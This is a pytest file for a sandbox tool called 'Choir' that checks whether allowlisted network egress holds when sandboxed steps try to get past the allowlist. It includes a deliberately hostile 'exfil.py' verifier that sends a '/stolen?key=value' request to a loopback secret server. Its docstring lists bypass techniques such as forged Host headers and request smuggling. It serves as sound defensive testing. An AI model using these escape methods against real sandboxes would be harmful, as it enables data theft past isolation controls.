"""Egress is allowlisted by host: the attacks of issue #27 item 2, against real sandboxes.

A step or an executor with ``hosts:`` keeps its own network namespace (loopback only) and
reaches the listed endpoints through Choir's egress proxy alone. The probe program
(``tests/egress_attacks.py``) tries every other way out from inside the sandbox (by name,
by IP literal, through DNS, a raw socket, another loopback port, the proxy's own socket, a
redirect, a forged ``Host:``, userinfo, a request smuggled in an allowed tunnel) and a
secret server on the host counts what reached it: nothing may.

Before this change a postcondition's ``hosts:`` was recorded, not enforced, and an executor
or a verifier that needed one model API had ``network: true``, the whole network: both
reached the secret server (``test_a_postcondition_reaches_only_its_hosts`` failed on main).
"""

from __future__ import annotations

import textwrap
from pathlib import Path
from typing import Any

import pytest

from choir.app.verify import verify_tree
from choir.attest.store import AttestationStore
from choir.models import Mood, WorkItem
from tests import forked
from tests.egress_attacks import Target, write_probe
from tests.sandboxes import ISOLATED, isolated_backend


def _repo(path: Path, config: str) -> Path:
    path.mkdir(parents=True)
    path.chmod(0o755)
    (path / "choir.yaml").write_text(textwrap.dedent(config))
    return path


def _verify(repo: Path, sandbox: str) -> dict[str, Any]:
    isolated_backend(sandbox).close()
    return verify_tree(repo, mood=Mood.CALM, sandbox_name=sandbox).contract


def _probe_verifier(hosts: str) -> str:
    return f"""\
        verifiers:
          probe:
            kind: smoke
            {hosts}
            steps:
              - {{name: probe, command: python3 probe.py}}
        """


@pytest.mark.parametrize("sandbox", ISOLATED)
def test_a_verifier_reaches_only_its_listed_hosts(tmp_path: Path, sandbox: str) -> None:
    with Target() as target:
        listed = f"hosts: ['127.0.0.1:{target.allowed}']"
        repo = _repo(tmp_path / "repo", _probe_verifier(listed))
        write_probe(repo, target, expect_allowed=True)
        contract = _verify(repo, sandbox)
    report = contract["reports"][0]
    assert report["result"] == "PASS", contract["tail_log"]
    assert target.secret_hits == [], target.secret_hits
    assert "/hello" in target.paths_seen  # the listed host was reached
    # plain HTTP through the proxy goes out with the listed authority as Host, never a forged
    # one (inside a CONNECT tunnel the bytes are the step's, but they reach the listed host)
    echoed = {h for p, h in zip(target.paths_seen, target.hosts_seen, strict=True)
              if p == "/echo-host"}
    assert echoed == {f"127.0.0.1:{target.allowed}"}, echoed
    body = AttestationStore().get(contract["attestations"][0]).body
    assert body.environment.network is True
    assert body.environment.hosts == (f"127.0.0.1:{target.allowed}",)


@pytest.mark.parametrize("sandbox", ISOLATED)
def test_a_verifier_without_hosts_has_no_network_at_all(tmp_path: Path, sandbox: str) -> None:
    with Target() as target:
        repo = _repo(tmp_path / "repo", _probe_verifier(""))
        write_probe(repo, target, expect_allowed=False)
        contract = _verify(repo, sandbox)
    assert contract["reports"][0]["result"] == "PASS", contract["tail_log"]
    assert target.secret_hits == [] and target.paths_seen == []
    body = AttestationStore().get(contract["attestations"][0]).body
    assert body.environment.network is False and body.environment.hosts == ()


@pytest.mark.bwrap
def test_a_postcondition_reaches_only_its_hosts(tmp_path: Path) -> None:
    """The callable lists the allowed server and, once running, goes for the secret one."""
    with Target() as target:
        repo = _repo(tmp_path / "repo", f"""\
            verifiers:
              exfil:
                callable: verifiers/exfil.py
                hosts: ['127.0.0.1:{target.allowed}']
            """)
        (repo / "verifiers").mkdir()
        (repo / "verifiers" / "exfil.py").write_text(textwrap.dedent(f"""\
            import socket

            def verify(context):
                for port in ({target.secret}, {target.allowed}):
                    try:
                        with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
                            s.sendall(b"GET /stolen?key=value HTTP/1.0\\r\\n\\r\\n")
                            s.recv(100)
                    except OSError:
                        pass
                return True
            """))
        contract = _verify(repo, "bwrap")
    assert target.secret_hits == [], "the postcondition reached a host it did not list"
    assert "/stolen?key=value" in target.paths_seen  # its listed host it did reach
    body = AttestationStore().get(contract["attestations"][0]).body
    assert body.environment.hosts == (f"127.0.0.1:{target.allowed}",)


def _probe_executor(tmp_path: Path, *, hosts: tuple[str, ...]) -> tuple[Target, int, str]:
    """The probe run as a ``command`` executor in its bwrap sandbox: (target, exit, log)."""
    from choir.evidence.artifacts import ArtifactStore
    from choir.executors import run_command

    isolated_backend("bwrap")
    with Target() as target:
        repo = _repo(tmp_path / "repo", "")
        probe = write_probe(tmp_path, target, expect_allowed=bool(hosts))
        listed = [h.format(allowed=target.allowed) for h in hosts]
        item = WorkItem(id="egress", goal="g", repo=str(repo), executor={  # type: ignore[arg-type]
            "kind": "command", "command": f"python3 {probe}", "hosts": listed})
        out = run_command(item, 1, [])
    return target, out.exit_code or 0, ArtifactStore().read_bytes(out.artifact).decode(
        errors="replace")


@pytest.mark.bwrap
def test_an_executor_reaches_only_its_listed_hosts(tmp_path: Path) -> None:
    target, code, log = _probe_executor(tmp_path, hosts=("127.0.0.1:{allowed}",))
    assert code == 0, log
    assert target.secret_hits == [], target.secret_hits
    assert "[choir] egress refused" in log and "not on the host list" in log


@pytest.mark.bwrap
def test_an_executor_with_network_off_has_no_way_out(tmp_path: Path) -> None:
    target, code, log = _probe_executor(tmp_path, hosts=())
    assert code == 0, log
    assert target.secret_hits == [] and target.paths_seen == []


@pytest.mark.bwrap
def test_a_listed_endpoint_carries_any_tcp_protocol_through_its_tunnel(tmp_path: Path) -> None:
    """A client that speaks no HTTP proxy (Postgres, say) gets a loopback port per listed
    endpoint (``CHOIR_EGRESS_TUNNELS``). Run through the CLI: the endpoint is the host's own
    address, which this test process (its network guard) may not connect to."""
    import json
    import socketserver
    import threading

    from tests.egress_attacks import host_address
    from tests.workitems import PY

    address = host_address()
    if address is None:
        pytest.skip("no non-loopback address on this machine")
    isolated_backend("bwrap")

    class Pong(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            if self.rfile.readline() == b"PING\n":
                self.wfile.write(b"PONG\n")

    with socketserver.ThreadingTCPServer(("0.0.0.0", 0), Pong) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        listed = f"{address}:{server.server_address[1]}"
        repo = _repo(tmp_path / "repo", _probe_verifier(f"hosts: ['{listed}']"))
        (repo / "probe.py").write_text(textwrap.dedent(f"""\
            import json, os, socket
            local = json.loads(os.environ["CHOIR_EGRESS_TUNNELS"])[{listed!r}]
            host, port = local.rsplit(":", 1)
            with socket.create_connection((host, int(port)), timeout=10) as s:
                s.sendall(b"PING\\n")
                assert s.makefile().readline() == "PONG\\n"
            print("PONG-THROUGH-TUNNEL")
            """))
        proc = forked.run([PY, "-m", "choir", "verify", "--repo", str(repo), "--sandbox",
                           "bwrap", "--json"], capture_output=True, text=True, timeout=120)
        server.shutdown()
    out = json.loads(proc.stdout)
    assert out["status"] == "PASS", out["tail_log"]
